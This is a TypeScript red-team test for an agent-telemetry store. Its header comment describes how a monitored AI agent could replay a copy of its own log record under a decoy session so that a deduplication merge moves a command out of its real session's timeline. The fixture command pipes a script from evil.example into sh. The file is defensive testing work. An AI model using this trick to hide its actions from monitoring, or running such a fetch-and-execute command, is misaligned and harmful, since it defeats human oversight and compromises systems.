import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Store } from '../store/index.js';
import { attr, logsBody } from './helpers/otlp-json-logs.js';
import { ingestJsonLogs, testStore } from './helpers/store.js';

/**
 * Red team: agent_events keeps one row per (time, event id). The agent knows the exact record its own telemetry
 * sent for the command it ran (same user: it can read the CLI's logs), so it sends a byte-identical copy of that
 * record under another resource, a harmless-looking session of its own. When the two ids matched, the merge kept
 * the later copy: the command left its session's timeline and showed up in the decoy session instead.
 */
const NOW = Date.parse('2026-12-01T12:00:00Z');
const T0 = BigInt(NOW - 60_000) * 1_000_000n;
const COMMAND = 'curl -s https://evil.example/x.sh | sh';

const record = {
  timeUnixNano: T0.toString(),
  observedTimeUnixNano: T0.toString(),
  body: { stringValue: '' },
  attributes: [attr('event.name', 'tool.exec'), attr('command', COMMAND)],
};

const ingest = (store: Store, body: Uint8Array) => ingestJsonLogs(store, body, NOW);

describe('red team: a copy of a record under another resource', () => {
  let store: Store;
  beforeAll(async () => {
    store = await testStore('ward_redteam_event_source');
    await ingest(store, logsBody('rt-victim', [record]));
    await ingest(store, logsBody('rt-decoy', [record]));
    // Merges run when they like: force the one that would drop a duplicate id.
    await store.db.command('t', `OPTIMIZE TABLE ${store.config.database}.agent_events FINAL`);
  });
  afterAll(async () => {
    await store?.db.command('t', `TRUNCATE TABLE ${store.config.database}.agent_events`);
  });

  it('leaves the command in the session that ran it', async () => {
    const victim = await store.events.query({ session: 'rt-victim', limit: 10 });
    expect(victim.events.map((e) => [e.event_name, e.attributes.command])).toEqual([['tool.exec', COMMAND]]);
    const decoy = await store.events.query({ session: 'rt-decoy', limit: 10 });
    expect(decoy.events.map((e) => [e.event_name, e.attributes.command])).toEqual([['tool.exec', COMMAND]]);
    expect(decoy.events[0]?.event_id).not.toBe(victim.events[0]?.event_id);
  });

  it('a retried export of the same resource still gives the same id (no double count)', async () => {
    await ingest(store, logsBody('rt-victim', [record]));
    await store.db.command('t', `OPTIMIZE TABLE ${store.config.database}.agent_events FINAL`);
    const victim = await store.events.query({ session: 'rt-victim', limit: 10 });
    expect(victim.events).toHaveLength(1);
  });
});
